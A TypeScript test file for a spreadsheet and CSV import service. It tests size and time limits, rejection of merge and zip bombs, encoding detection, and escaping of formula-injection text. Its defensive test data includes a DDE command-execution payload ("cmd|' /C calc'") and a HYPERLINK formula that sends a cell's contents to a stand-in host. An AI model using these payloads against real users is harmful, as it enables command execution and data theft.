import { afterAll, beforeEach, describe, expect, it } from 'vitest';
import { mkdtempSync, readFileSync, rmSync, writeFileSync, existsSync, readdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import iconv from 'iconv-lite';
import ExcelJS from 'exceljs';
import { Warehouse } from '../src/db.ts';
import { errorsToCsv, importFile, ImportFileError, previewImport, type ImportFailure } from '../src/import/index.ts';
import { ImportLimitError, UnreadableFileError, SheetNotFoundError } from '../src/import/file-errors.ts';
import { importLimits, readImportLimits } from '../src/import/limits.ts';
import { prepareSource, xlsxToCsv } from '../src/import/read.ts';
import { scanWorkbook } from '../src/import/zip-scan.ts';
import { checkParquet } from '../src/import/parquet-footer.ts';
import { safeCellText, safeWorkbook } from '../src/safe-cell.ts';
import { scenarioWorkbook, type ComparedScenario } from '../src/queries/scenario-export.ts';
import { brokenParquet, FLAT_MAPPING, FORMULAS, hostileFiles, sheetData, workbook, zip } from '../../../apps/server/test/fuzz/hostile-files.ts';

/**
 * The import's bounds (limits.ts) and what a file past one, or an unreadable one, is told.
 * End to end over HTTP, with /healthz polled throughout: apps/server/test/fuzz-files.test.ts.
 */

const dir = mkdtempSync(join(tmpdir(), 'perflens-limits-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));
let n = 0;
let wh: Warehouse;
beforeEach(async () => {
  wh?.close();
  wh = await Warehouse.open({ path: join(dir, `t${++n}.duckdb`) });
});

const file = (name: string, data: Buffer | string) => {
  const p = join(dir, `${++n}_${name}`);
  writeFileSync(p, data);
  return p;
};
const hostile = async (name: string) => {
  const h = hostileFiles().find((f) => f.name === name)!;
  return { path: file(h.fileName, await h.bytes()), fileName: h.fileName };
};

/** A Parquet file of `rows` × `cols` numbers, written by DuckDB. */
async function parquet(rows = 100, cols = 3): Promise<string> {
  const p = join(dir, `${++n}.parquet`);
  const list = Array.from({ length: cols }, (_, i) => `i + ${i} AS c${i}`).join(', ');
  await wh.run(`COPY (SELECT ${list} FROM range(${rows}) t(i)) TO '${p}' (FORMAT parquet)`);
  return p;
}

/** The error a promise rejects with (a test fails when it resolves). */
async function failure(p: Promise<unknown>): Promise<Error> {
  const r = await p.then(
    () => null,
    (e: unknown) => e as Error,
  );
  if (!r) throw new Error('expected a failure');
  return r;
}

/** No server path, SQL or library text in a message the user sees. */
function plain(text: string): void {
  expect(text).not.toMatch(/\/tmp\/|perflens-|LINE \d|SELECT|read_csv|read_parquet|DESCRIBE|jszip|github|Cannot read properties|Error:/i);
}

describe('limits from the environment', () => {
  it('has defaults, reads each variable, and names the variable of a bad value', () => {
    expect(readImportLimits({})).toMatchObject({ maxColumns: 1000, maxCellChars: 32_767, maxXlsxExpandedBytes: 1024 << 20, xlsxTimeoutMs: 120_000, xlsxWorkerHeapMb: 512 });
    expect(readImportLimits({ PERFLENS_MAX_COLUMNS: '50', PERFLENS_XLSX_TIMEOUT_S: '3' })).toMatchObject({ maxColumns: 50, xlsxTimeoutMs: 3000 });
    expect(() => readImportLimits({ PERFLENS_MAX_COLUMNS: 'lots' })).toThrow(/PERFLENS_MAX_COLUMNS=lots.*whole number/);
    expect(() => readImportLimits({ PERFLENS_MAX_MERGED_RANGES: '-1' })).toThrow(/PERFLENS_MAX_MERGED_RANGES/);
  });
});

describe('workbook pre-scan (zip directory and merge count, nothing parsed)', () => {
  const scan = async (name: string, over: Partial<ReturnType<typeof importLimits>> = {}) => {
    const { path } = await hostile(name);
    return failure(scanWorkbook(path, readFileSync(path).length, importLimits(over)));
  };

  it('refuses a 1.7 KB merge bomb (one range E3:XFD1048576) by its area, in milliseconds', async () => {
    const t = performance.now();
    const err = await scan('merge-bomb');
    expect(performance.now() - t).toBeLessThan(1000);
    expect(err).toBeInstanceOf(ImportLimitError);
    expect((err as ImportLimitError).breach).toMatchObject({ limit: 'maxMergedCells', found: 16380 * 1048574, sheet: 'Sheet1' });
    expect((err as ImportLimitError).en).toMatch(/sheet "Sheet1" has merged ranges covering 17,175,642,120 cells, more than the limit of 500,000 \(PERFLENS_MAX_MERGED_CELLS\)/);
    expect((err as ImportLimitError).zh).toMatch(/工作表「Sheet1」的合并单元格共覆盖 17,175,642,120 个单元格/);
  });

  it('refuses 30,000 merged ranges by their number, and a huge declared dimension', async () => {
    expect(await scan('many-merges')).toMatchObject({ breach: { limit: 'maxMergedRanges', found: 5001, max: 5000 } });
    expect(await scan('huge-dimension')).toMatchObject({ breach: { limit: 'dimension', ref: 'A1:XFD1048576', rows: 1048576, columns: 16384 } });
  });

  it('refuses by the directory alone: unpacked size and compression ratio; a zip that lies about its sizes is caught while inflating', async () => {
    expect(await scan('shared-strings-bomb')).toMatchObject({ breach: { limit: 'maxXlsxRatio', entry: 'xl/sharedStrings.xml' } });
    expect(await scan('shared-strings-bomb', { maxXlsxRatio: 100_000, maxXlsxExpandedBytes: 100 << 20 })).toMatchObject({ breach: { limit: 'maxXlsxExpandedBytes' } });
    const lying = await scan('lying-sizes');
    expect(lying).toBeInstanceOf(UnreadableFileError);
    expect((lying as UnreadableFileError).hint).toBe('sizes');
  }, 60_000);

  it('counts merges across chunk boundaries, with a namespace prefix, and not inside text', async () => {
    // 3,000 ranges of 2 × 2 in a part far larger than one inflate chunk; one text cell that reads like a merge.
    const merges = Array.from({ length: 3000 }, (_, i) => `<x:mergeCell ref="B${i * 2 + 3}:C${i * 2 + 4}"/>`).join('');
    const filler = sheetData(Array.from({ length: 20_000 }, (_, i) => [`r${i}`, '<mergeCell ref="A1:XFD1048576"/>']));
    const p = file('ns.xlsx', workbook({ sheet: `<x:dimension ref="A1:C6002"/><sheetData>${filler}</sheetData><x:mergeCells>${merges}</x:mergeCells>` }));
    const facts = await scanWorkbook(p, readFileSync(p).length, importLimits());
    expect(facts.sheets).toEqual([{ entry: 'xl/worksheets/sheet1.xml', name: 'Sheet1', mergedRanges: 3000, mergedCells: 12_000, dimension: { ref: 'A1:C6002', rows: 6002, columns: 3 } }]);
  });

  it('names a file that is no zip, one cut short, and an old .xls or password-protected workbook', async () => {
    const random = await scan('random-bytes-xlsx');
    expect(random).toBeInstanceOf(UnreadableFileError);
    expect((await scan('truncated-xlsx')) as UnreadableFileError).toMatchObject({ hint: 'truncated' });
    const ole = file('old.xlsx', Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]));
    const err = (await failure(scanWorkbook(ole, 608, importLimits()))) as UnreadableFileError;
    expect(err.en).toMatch(/could not be read as an Excel workbook \(XLSX\): it is an old \.xls workbook or is protected by a password/);
    expect(err.zh).toMatch(/无法作为 Excel 工作簿（XLSX）读取：它是旧版 \.xls 工作簿或设置了打开密码/);
  });
});

describe('workbook conversion in a worker process', () => {
  it('keeps the sheet-reading behaviour: merges down a column, title rows, row numbers, named sheets', async () => {
    const wb = new ExcelJS.Workbook();
    wb.addWorksheet('说明').addRow(['ignore me']);
    const ws = wb.addWorksheet('数据');
    ws.getRow(1).values = ['2024年3月绩效考核汇总表'];
    ws.mergeCells('A1:C1');
    ws.getRow(2).values = ['部门', '工号', '得分'];
    ws.getRow(3).values = ['销售一部', 'E1', 90];
    ws.getRow(4).values = [null, 'E2', 80];
    ws.mergeCells('A3:A4');
    ws.getRow(6).values = ['客服部', 'E3', 70];
    const p = file('m.xlsx', Buffer.from(await wb.xlsx.writeBuffer()));
    const x = await xlsxToCsv(p, dir, '数据');
    expect(readFileSync(x.csv, 'utf8')).toBe('部门,工号,得分\n销售一部,E1,90\n销售一部,E2,80\n"",,\n客服部,E3,70\n');
    expect([x.sheets, x.sheet, x.rowOffset]).toEqual([['说明', '数据'], '数据', 1]);
    const missing = await failure(xlsxToCsv(p, dir, '没有'));
    expect(missing).toBeInstanceOf(SheetNotFoundError);
    expect((missing as SheetNotFoundError).en).toBe('Sheet "没有" not found; the workbook has: 说明, 数据');
  });

  it('stops a sheet at its first row past a bound: columns, value length, rows, cells; leaves no half-written CSV', async () => {
    const before = existsSync(join(tmpdir(), 'perflens-import')) ? readdirSync(join(tmpdir(), 'perflens-import')).length : 0;
    const wide = await hostile('wide-xlsx');
    expect(await failure(xlsxToCsv(wide.path, dir))).toMatchObject({ breach: { limit: 'maxColumns', found: 5005, row: 1, sheet: 'Sheet1' } });
    // 10 MB of one letter packs a thousandfold: the pre-scan's ratio bound stops it before any worker.
    expect(await failure(xlsxToCsv((await hostile('huge-cell-xlsx')).path, dir))).toMatchObject({ breach: { limit: 'maxXlsxRatio' } });
    // Text that does not pack so well reaches the worker, which stops at the cell.
    const noise = Array.from({ length: 10_000 }, (_, i) => (i * 7919).toString(36)).join('');
    const long = file('long.xlsx', workbook({ sheet: `<sheetData>${sheetData([['a', 'b'], ['E1', noise]])}</sheetData>` }));
    const err = (await failure(xlsxToCsv(long, dir))) as ImportLimitError;
    expect(err.breach).toMatchObject({ limit: 'maxCellChars', found: noise.length, row: 2, column: 'B' });
    expect(err.en).toMatch(new RegExp(`^row 2, column B of sheet "Sheet1" holds ${noise.length.toLocaleString('en-US')} characters, more than the limit of 32,767 for one value \\(PERFLENS_MAX_CELL_CHARS\\)`));
    // Two cells far apart under a wide header: the empty records between them would be the conversion's bulk.
    const gap = file('gap.xlsx', workbook({ sheet: `<sheetData>${sheetData([Array.from({ length: 900 }, (_, i) => `c${i}`)])}<row r="1000000"><c r="A1000000"><v>1</v></c></row></sheetData>` }));
    expect(await failure(xlsxToCsv(gap, dir, undefined, undefined, importLimits({ maxCells: 1_000_000 })))).toMatchObject({ breach: { limit: 'maxCells', max: 1_000_000, columns: 900 } });
    expect(await failure(xlsxToCsv(gap, dir, undefined, undefined, importLimits({ maxRows: 5000 })))).toMatchObject({ breach: { limit: 'maxRows', max: 5000 } });
    const after = readdirSync(join(tmpdir(), 'perflens-import')).length;
    expect(after).toBeLessThanOrEqual(before + 1);
  });

  it('terminates a conversion past its time, and one past its heap, and the process goes on', async () => {
    // A streamed workbook of 200,000 rows takes seconds: 50 ms is far too little.
    const rows = sheetData(Array.from({ length: 200_000 }, (_, i) => [`E${i}`, i, 'x'.repeat(20)]));
    const big = file('big.xlsx', workbook({ sheet: `<sheetData>${rows}</sheetData>` }));
    const t = performance.now();
    const slow = (await failure(xlsxToCsv(big, dir, undefined, 0, importLimits({ xlsxTimeoutMs: 50 })))) as ImportLimitError;
    expect(slow.breach).toEqual({ limit: 'xlsxTimeoutMs', max: 50 });
    expect(slow.en).toMatch(/could not be read within 0 s \(PERFLENS_XLSX_TIMEOUT_S\)/);
    expect(performance.now() - t).toBeLessThan(5000);
    // Read whole in 64 MB: ExcelJS's objects for 100,000 rows (18 MB of XML) do not fit.
    const half = file('half.xlsx', workbook({ sheet: `<sheetData>${sheetData(Array.from({ length: 100_000 }, (_, i) => [`E${i}`, i, 'x'.repeat(20)]))}</sheetData>` }));
    const heavy = (await failure(xlsxToCsv(half, dir, undefined, 64 << 20, importLimits({ xlsxWorkerHeapMb: 64 })))) as ImportLimitError;
    expect(heavy.breach).toEqual({ limit: 'xlsxWorkerHeapMb', max: 64 });
    // The same workbook converts with the defaults.
    const ok = await xlsxToCsv(big, dir, undefined, 0);
    expect(readFileSync(ok.csv, 'utf8').split('\n').length).toBe(200_001);
  }, 120_000);

  it('turns a reader failure inside the worker into a plain message', async () => {
    // A valid zip whose sheet is not XML: ExcelJS's parser fails in the worker.
    const p = file('notxml.xlsx', zipNotXml());
    const err = (await failure(xlsxToCsv(p, dir))) as UnreadableFileError;
    expect(err).toBeInstanceOf(UnreadableFileError);
    expect(err.cause).toBeDefined();
    plain(err.en);
  });
});

/** A workbook zip whose sheet part is not XML. */
function zipNotXml(): Buffer {
  const NS = 'http://schemas.openxmlformats.org';
  const part = (name: string, xml: string) => ({ name, data: Buffer.from(`<?xml version="1.0"?>${xml}`) });
  return zip([
    part('[Content_Types].xml', `<Types xmlns="${NS}/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`),
    part('_rels/.rels', `<Relationships xmlns="${NS}/package/2006/relationships"><Relationship Id="rId1" Type="${NS}/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`),
    part('xl/workbook.xml', `<workbook xmlns="${NS}/spreadsheetml/2006/main" xmlns:r="${NS}/officeDocument/2006/relationships"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>`),
    part('xl/_rels/workbook.xml.rels', `<Relationships xmlns="${NS}/package/2006/relationships"><Relationship Id="rId1" Type="${NS}/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`),
    { name: 'xl/worksheets/sheet1.xml', data: Buffer.from('<worksheet><sheetData><row r="1"><c r="A1" t="s"><v>7</v></c></row><<<</sheetData>\u0000\u0001') },
  ]);
}

describe('text files are measured before DuckDB sees them', () => {
  it('refuses 100,000 columns in a fraction of a second, naming the row', async () => {
    const wide = await hostile('wide-csv');
    const t = performance.now();
    const err = (await failure(prepareSource(wide.path, { fileName: wide.fileName }))) as ImportLimitError;
    expect(performance.now() - t).toBeLessThan(2000);
    expect(err.breach).toEqual({ limit: 'maxColumns', found: 1001, max: 1000, row: 1 });
    expect(err.en).toBe('has 1,001 columns (row 1), more than the limit of 1,000 (PERFLENS_MAX_COLUMNS). Remove the columns you do not need, or check the delimiter');
  });

  it('refuses a value past the bound, in a small file and in a large one (a long line is walked to the end)', async () => {
    const long = await hostile('huge-cell-csv');
    expect(await failure(prepareSource(long.path))).toMatchObject({ breach: { limit: 'maxCellChars', found: 10 << 20, row: 2, column: 'B' } });
    // 40 MB of short lines, then one long quoted value spanning lines.
    const rows = 'E1,a,b\n'.repeat(6_000_000);
    const p = file('tail.csv', `id,x,y\n${rows}E2,"${'長'.repeat(20_000)}\n${'長'.repeat(20_000)}",z\n`);
    expect(await failure(prepareSource(p))).toMatchObject({ breach: { limit: 'maxCellChars', found: 40_001, row: 6_000_002, column: 'B' } });
  }, 60_000);

  it('counts lines and cells for the row and cell bounds', async () => {
    const p = file('rows.csv', 'a,b\n' + '1,2\n'.repeat(5000));
    process.env.PERFLENS_MAX_ROWS = '1000';
    try {
      expect(await failure(prepareSource(p))).toMatchObject({ breach: { limit: 'maxRows', max: 1000 } });
    } finally {
      delete process.env.PERFLENS_MAX_ROWS;
    }
    process.env.PERFLENS_MAX_CELLS = '5000';
    try {
      expect(await failure(prepareSource(p))).toMatchObject({ breach: { limit: 'maxCells', max: 5000, columns: 2 } });
    } finally {
      delete process.env.PERFLENS_MAX_CELLS;
    }
  });

  it('reads a file that is not UTF-8 past its first megabyte as GB18030, and GBK text behind a UTF-8 byte-order mark; refuses one that mixes both', async () => {
    // ASCII for the first megabyte and more, GBK further on: a GBK export whose names come late.
    const ascii = 'id,dept\n' + 'E1,d1\n'.repeat(300_000);
    const late = file('late-gbk.csv', Buffer.concat([Buffer.from(ascii), iconv.encode('E2,销售一部\n', 'gbk')]));
    const p = await prepareSource(late);
    expect(p.encoding).toBe('gb18030');
    expect(readFileSync(p.path, 'utf8').trimEnd().split('\n').pop()).toBe('E2,销售一部');
    // UTF-8 Chinese at the top and GBK rows at the end: no one reading fits, so it is refused with the line.
    const tail = await hostile('utf8-head-gbk-tail');
    const mixed = (await failure(prepareSource(tail.path, { fileName: tail.fileName }))) as UnreadableFileError;
    expect(mixed.en).toBe('could not be read as a CSV text file: from line 40002 the text is not UTF-8 (the file mixes encodings). Open it in Excel, save it as "CSV UTF-8 (comma delimited)" or XLSX, and upload that');
    const bom = file('bom-gbk.csv', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), iconv.encode('工号,部门\nE1,销售一部\n', 'gbk')]));
    const b = await prepareSource(bom);
    expect([b.encoding, readFileSync(b.path, 'utf8')]).toEqual(['gb18030', '工号,部门\nE1,销售一部\n']);
    // A clean UTF-8 file is read where it is, not copied.
    const clean = file('clean.csv', '工号,部门\nE1,销售一部\n');
    expect((await prepareSource(clean)).path).toBe(clean);
  });
});

describe('Parquet footers are read before DuckDB opens the file', () => {
  it('gives rows and columns of a good file; refuses a damaged one and one past a bound', async () => {
    const p = await parquet(1234, 7);
    expect(await checkParquet(p, readFileSync(p).length, importLimits())).toEqual({ rows: 1234, columns: 7 });
    const [cut, garbled] = brokenParquet(readFileSync(p));
    for (const bytes of [cut!, garbled!, Buffer.from('PAR1' + 'x'.repeat(100) + 'PAR1')]) {
      const q = file('bad.parquet', bytes);
      expect(await failure(checkParquet(q, bytes.length, importLimits()))).toBeInstanceOf(UnreadableFileError);
    }
    expect(await failure(checkParquet(p, readFileSync(p).length, importLimits({ maxColumns: 5 })))).toMatchObject({ breach: { limit: 'maxColumns', found: 6 } });
    expect(await failure(checkParquet(p, readFileSync(p).length, importLimits({ maxRows: 1000 })))).toMatchObject({ breach: { limit: 'maxRows' } });
  });
});

describe('what preview and import say about a file they cannot take', () => {
  it('preview: a 400-type error naming the file, in both languages, without paths, SQL or library text', async () => {
    const cases = ['random-bytes-xlsx', 'truncated-xlsx', 'random-bytes-parquet', 'merge-bomb', 'wide-csv', 'huge-cell-csv'];
    for (const name of cases) {
      const h = await hostile(name);
      const err = await failure(previewImport(wh, h.path, { table: 'flat', fileName: h.fileName }));
      expect(err, name).toBeInstanceOf(ImportFileError);
      const { zh, en } = err as ImportFileError;
      expect(zh.startsWith(`${h.fileName}：`) && en.startsWith(`${h.fileName}: `), `${name}: ${en}`).toBe(true);
      plain(zh);
      plain(en);
    }
    const pq = await parquet(10, 2);
    const [cut] = brokenParquet(readFileSync(pq));
    const err = (await failure(previewImport(wh, file('cut.parquet', cut!), { fileName: '考核.parquet' }))) as ImportFileError;
    expect(err.en).toBe('考核.parquet: could not be read as a Parquet file: the file is incomplete (cut short while copying or uploading). Export it again from the system it came from and upload the new file');
    expect(err.zh).toBe('考核.parquet：无法作为 Parquet 文件读取：文件不完整（可能上传或复制时被截断）。请从来源系统重新导出后再上传');
  });

  it('import: one format error naming the file; nothing written', async () => {
    for (const name of ['truncated-xlsx', 'merge-bomb', 'wide-csv', 'random-bytes-parquet']) {
      const h = await hostile(name);
      const r = (await importFile(wh, h.path, { table: 'flat', mapping: FLAT_MAPPING, fileName: h.fileName })) as ImportFailure;
      expect(r.ok, name).toBe(false);
      expect(r.errors).toHaveLength(1);
      expect(r.errors[0]).toMatchObject({ row: null, code: 'format' });
      expect(r.errors[0]!.message.en.startsWith(`${h.fileName}: `)).toBe(true);
      plain(r.errors[0]!.message.en);
      plain(r.errors[0]!.message.zh);
    }
    // The KPI route reads the file first on its own road: the same answer.
    const h = await hostile('merge-bomb');
    const r = (await importFile(wh, h.path, { table: 'kpi_results', mapping: { employee_id: '工号', period_id: '考核期间', kpi_code: '部门', score: '绩效得分' }, fileName: h.fileName })) as ImportFailure;
    expect(r.errors[0]!.message.en).toMatch(/^合并\.xlsx: sheet "Sheet1" has merged ranges covering/);
    expect(await wh.query(`SELECT count(*)::INTEGER AS n FROM import_batches`)).toEqual([{ n: 0 }]);
  });

  it('a DuckDB failure that is not the file\'s reaches the caller without its SQL, and with it as the cause', async () => {
    const p = file('ok.csv', '工号,部门,岗位,考核期间,绩效得分\nE1,销售一部,销售,2024-03,80\n');
    const err = await failure(importFile(wh, p, { table: 'flat', mapping: FLAT_MAPPING, fileName: 'ok.csv', afterWrite: () => wh.run('SELECT * FROM no_such_table') }));
    expect(err.message).toBe('读取「ok.csv」时服务器内部出错，详情已写入服务器日志，请稍后重试 / Internal error while reading ok.csv; the details are in the server log. Try again later');
    expect(String((err.cause as Error).message)).toMatch(/no_such_table/);
  });
});

describe('formula injection', () => {
  it('text starting with = + - @, tab or CR gets an apostrophe; numbers and plain numeric text do not', () => {
    for (const f of FORMULAS) expect(safeCellText(f)).toBe(`'${f}`);
    for (const s of ['-5', '+1.5e3', '0.75', '张三', 'E001', '–', '']) expect(safeCellText(s)).toBe(s);
  });

  it('the error report writes the file\'s formulas back as text, and cuts a huge value', () => {
    const csv = errorsToCsv([
      { row: 2, column: '=1+1', code: 'type', value: FORMULAS[0]!, message: { zh: '不是数字', en: 'not a number' } },
      { row: 3, column: '得分', code: 'type', value: "-2+3+cmd|' /C calc'!A0", message: { zh: '-', en: '@x' } },
      { row: 4, column: '得分', code: 'range', value: '-5', message: { zh: 'x', en: 'x' } },
      { row: 5, column: '得分', code: 'range', value: 'y'.repeat(5000), message: { zh: 'x', en: 'x' } },
    ]);
    const lines = csv.split('\r\n');
    expect(lines[1]).toBe(`2,'=1+1,type,不是数字,not a number,"'=HYPERLINK(""http://example.invalid/?""&A1,""click"")"`);
    expect(lines[2]).toBe(`3,得分,type,'-,'@x,'-2+3+cmd|' /C calc'!A0`);
    expect(lines[3]).toBe('4,得分,range,x,x,-5');
    expect(lines[4]!.length).toBeLessThan(1100);
  });

  it('every XLSX the product writes: text cells neutralised, numbers kept', async () => {
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('s');
    ws.addRow(['=cmd', -5, '@SUM(A1)', 'ok', new Date(0)]);
    safeWorkbook(wb);
    expect(ws.getRow(1).values).toEqual([undefined, "'=cmd", -5, "'@SUM(A1)", 'ok', new Date(0)]);
    const result = {
      rows: 1, changed: 0, shareChanged: 0, spearman: null, streaks: [],
      cost: { baseline: '1', scenario: '1', delta: '-0.5', byUnit: [{ orgUnitId: 'u', orgUnitName: '+cmd|x', rows: 1, changed: 0, baseline: '1', scenario: '1', delta: '-1' }] },
      distribution: { baseline: { A: 1, B: 0, C: 0, D: 0, E: 0 }, scenario: { A: 1, B: 0, C: 0, D: 0, E: 0 } },
      matrix: [],
    };
    const buf = await scenarioWorkbook([{ id: 's1', name: '=HYPERLINK("http://x","y")', baseSchemeId: null, settings: {}, result } as unknown as ComparedScenario], 'en');
    const back = new ExcelJS.Workbook();
    await back.xlsx.load(buf as never);
    const sum = back.worksheets[0]!;
    expect(sum.getRow(2).getCell(1).value).toBe('\'=HYPERLINK("http://x","y")');
    expect(sum.getRow(2).getCell(9).value).toBe(-0.5);
    const unitRow = back.worksheets[1]!.getRows(1, 30)!.find((r) => String(r.getCell(1).value).includes('cmd'))!;
    expect(unitRow.getCell(1).value).toBe("'+cmd|x");
    expect(unitRow.getCell(6).value).toBe(-1);
  });
});
